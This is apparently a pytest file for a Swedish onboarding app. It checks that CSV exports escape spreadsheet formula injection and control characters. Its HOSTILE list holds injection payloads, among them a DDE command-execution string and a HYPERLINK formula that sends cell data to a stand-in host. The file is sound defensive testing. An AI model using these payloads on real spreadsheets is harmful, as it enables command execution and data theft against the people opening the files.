"""CSV exports open in Excel as text: no formula runs, no control character gets through."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from handledare.cli import main
from handledare.domain.enums import Mark
from handledare.services import onboarding, people, signoff
from handledare.services.exports import safe_cell

from conftest import MANAGER_PIN, SUPERVISOR_PIN, World, signed_in_as

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1;"Klicka")',
    "=cmd|' /C calc'!A0",
    "+Norr",
    "-2+3",
    "@SUM(1+1)",
    "\tTabb först",
    "\rRetur först",
    "Esc\x1b[2J mitt i",
]


def _check(path: Path, numeric: set[str]) -> list[dict[str, str]]:
    """Every cell of the file, read back as Excel's CSV import would split it."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert not any((ord(c) < 32 and c not in "\n\t") or ord(c) == 127 for c in cell), (
                column,
                cell,
            )
            if column in numeric:
                assert cell.lstrip("-").isdigit(), (column, cell)
    return rows


def test_every_cell_of_every_export_is_safe(world: World, tmp_path: Path, monkeypatch):
    store, anna = world.store, world.supervisor
    for number, name in enumerate(HOSTILE):
        person = people.add_person(
            store, anna, f"{name} {number}", world.north.id, datetime.now().date()
        )
        oid = onboarding.start_onboarding(store, anna, person.id, "hemtjanst-omsorg")
        onboarding.mark_item(store, anna, oid, "anst-avtal", Mark.NOT_APPLICABLE, reason=name)
        onboarding.mark_item(store, anna, oid, "anst-lon", Mark.PRACTISED)
        onboarding.add_note(store, anna, oid, name, item_key="anst-lon")
        signoff.sign_off(store, anna, oid, ["anst-lon"], SUPERVISOR_PIN)
        signoff.revoke(store, anna, oid, "anst-lon", name, SUPERVISOR_PIN)
    people.add_unit(store, world.admin, "=1+1 enhet")
    data_dir = str(store.path.parent)
    store.close()

    signoffs, report = tmp_path / "signoffs.csv", tmp_path / "report.csv"
    month = datetime.now().strftime("%Y-%m")
    manager = signed_in_as(monkeypatch, "Karin Berg", MANAGER_PIN)
    assert (
        main(["--data-dir", data_dir, "export", "signoffs", "--out", str(signoffs), *manager]) == 0
    )
    admin = signed_in_as(monkeypatch)
    assert main(["--data-dir", data_dir, "report", "monthly", "--month", month,
                 "--out", str(report), *admin]) == 0  # fmt: skip

    rows = _check(signoffs, numeric={"template_version"})
    notes = {row["note"] for row in rows}
    assert "'=cmd|' /C calc'!A0" in notes and "'-2+3" in notes and "'@SUM(1+1)" in notes
    assert "'\tTabb först" in notes and "Esc\\x1b[2J mitt i" in notes
    assert "'+Norr 2" in {row["person"] for row in rows}
    report_rows = _check(report, numeric={"started", "active", "approved", "items_signed",
                                          "supervision_minutes", "revocations"})  # fmt: skip
    assert "'=1+1 enhet" in {row["unit"] for row in report_rows}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, -3),
        (2.5, 2.5),
        ("-3", "'-3"),
        ("Anna\nLindqvist", "Anna\nLindqvist"),
        ("a\x00b\x7fc", "a\\x00b\\x7fc"),
        ("\r", "'\\x0d"),
        ("Vanlig text", "Vanlig text"),
    ],
)
def test_numbers_stay_numbers_and_text_is_made_safe(value, written):
    assert safe_cell(value) == written
